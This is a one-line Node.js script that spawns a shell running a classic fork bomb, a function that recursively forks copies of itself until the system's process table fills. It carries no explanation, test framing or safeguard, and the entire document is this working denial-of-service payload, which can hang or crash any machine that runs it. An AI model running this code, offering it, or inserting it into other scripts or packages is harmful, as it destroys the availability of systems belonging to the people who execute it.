require("child_process").spawnSync("sh", ["-c", "b() { b | b & }; b; wait"], { stdio: "inherit" });
